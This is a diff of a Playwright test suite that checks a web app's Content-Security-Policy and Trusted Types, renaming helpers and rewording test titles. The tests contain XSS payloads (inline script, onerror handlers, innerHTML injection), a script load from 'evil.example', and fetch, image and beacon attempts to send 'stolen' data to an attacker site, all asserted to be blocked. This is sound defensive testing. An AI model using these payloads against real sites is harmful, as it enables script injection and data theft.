@@ -1,10 +1,14 @@
-// The Content-Security-Policy: the app works under it (every test of this suite checks that), an injected script does not.
-import { startForeignSite } from "../support/foreign-site.ts";
+// The Content-Security-Policy blocks injected scripts. That the app itself does not violate it is checked by every test.
+import { startAttackerSite } from "../support/attacker-site.ts";
 import { expect, test } from "../support/test.ts";
 
 test.use({ allowed: { violations: true, scriptErrors: /TrustedHTML|TrustedScript|Trusted Type/ } });
 
-test("Chromium runs no script that somebody managed to put into the page", async ({ page, context, seen }) => {
+test("Chromium blocks inline scripts, event handlers and javascript: URLs injected into the page", async ({
+  page,
+  context,
+  record,
+}) => {
   await context.route("**/profile", async (route) => {
     const response = await route.fetch();
     const injected = `<script>window.injected = "inline"</script><img src="/none" onerror="window.injected = 'handler'">
@@ -12,20 +16,20 @@ test("Chromium runs no script that somebody managed to put into the page", async
     await route.fulfill({ response, body: (await response.text()).replace("</body>", injected) });
   });
   await page.goto("/profile");
-  // The app itself is not harmed.
+  // The app renders all the same.
   await expect(page.getByRole("heading", { level: 1, name: "Profile" })).toBeVisible();
   await page.getByRole("link", { name: "Click me" }).click();
   await expect
-    .poll(() => seen.violations.filter(({ blocked }) => blocked === "inline").length)
+    .poll(() => record.violations.filter(({ blocked }) => blocked === "inline").length)
     .toBeGreaterThanOrEqual(3);
   expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined();
 });
 
-test("Chromium lets scripts of the page turn no text into markup or code", async ({ page }) => {
+test("Chromium blocks conversions of text to markup or code by Trusted Types", async ({ page }) => {
   await page.goto("/");
   await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-  const refused = await page.evaluate(async () => {
-    // In a task of the page's own: what the test evaluates itself is exempt from the policy.
+  const outcomes = await page.evaluate(async () => {
+    // In a later task of the page: code evaluated by the test itself is exempt from the policy.
     await new Promise((resolve) => setTimeout(resolve));
     const attempts: [string, () => void][] = [
       ["innerHTML", () => void (document.body.innerHTML = "<img src=x onerror=alert(1)>")],
@@ -34,7 +38,7 @@ test("Chromium lets scripts of the page turn no text into markup or code", async
       ["script address", () => void (document.createElement("script").src = "https://evil.example/x.js")],
       ["eval", () => void (Reflect.get(globalThis, "eval") as (code: string) => unknown)("1")],
       [
-        "a policy of its own",
+        "a Trusted Types policy",
         () =>
           void (
             window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
@@ -44,44 +48,44 @@ test("Chromium lets scripts of the page turn no text into markup or code", async
     return attempts.map(([name, attempt]) => {
       try {
         attempt();
-        return [name, "went through"];
+        return [name, "allowed"];
       } catch {
-        return [name, "refused"];
+        return [name, "blocked"];
       }
     });
   });
-  expect(refused.filter(([, outcome]) => outcome !== "refused")).toEqual([]);
+  expect(outcomes.filter(([, outcome]) => outcome !== "blocked")).toEqual([]);
 });
 
-test("Chromium sends nothing from the page to another origin", async ({ loggedIn, person, seen }) => {
-  const foreign = await startForeignSite();
-  await loggedIn.goto("/profile");
-  await expect(loggedIn.getByRole("banner")).toContainText(person.name);
-  for (const target of [foreign.crossSite, foreign.sameSite]) {
-    const outcome = await loggedIn.evaluate(async (url) => {
+test("Chromium blocks requests of the page to other origins", async ({ loggedInPage, user, record }) => {
+  const attacker = await startAttackerSite();
+  await loggedInPage.goto("/profile");
+  await expect(loggedInPage.getByRole("banner")).toContainText(user.name);
+  for (const target of [attacker.crossSite, attacker.sameSite]) {
+    const outcome = await loggedInPage.evaluate(async (url) => {
       const image = new Promise((resolve) => {
         const node = new Image();
         node.onload = () => resolve("loaded");
-        node.onerror = () => resolve("refused");
+        node.onerror = () => resolve("blocked");
         node.src = `${url}/image?stolen`;
       });
       const request = fetch(`${url}/fetch?stolen`, { mode: "no-cors" }).then(
         () => "sent",
-        () => "refused",
+        () => "blocked",
       );
       navigator.sendBeacon(`${url}/beacon?stolen`);
       return [await image, await request];
     }, target);
-    expect(outcome).toEqual(["refused", "refused"]);
+    expect(outcome).toEqual(["blocked", "blocked"]);
   }
   await expect
-    .poll(() => new Set(seen.violations.map(({ directive }) => directive)))
+    .poll(() => new Set(record.violations.map(({ directive }) => directive)))
     .toEqual(new Set(["img-src", "connect-src"]));
-  expect(foreign.received).toEqual([]);
-  await foreign.stop();
+  expect(attacker.received).toEqual([]);
+  await attacker.stop();
 });
 
-test("every document, answer and error of the gateway carries its policy", async ({ request, system }) => {
+test("every document, file and error of the gateway has a Content-Security-Policy", async ({ request, system }) => {
   for (const { path, status, policy } of [
     { path: "/", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'.*require-trusted-types-for 'script'/ },
     { path: "/profile", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'/ },
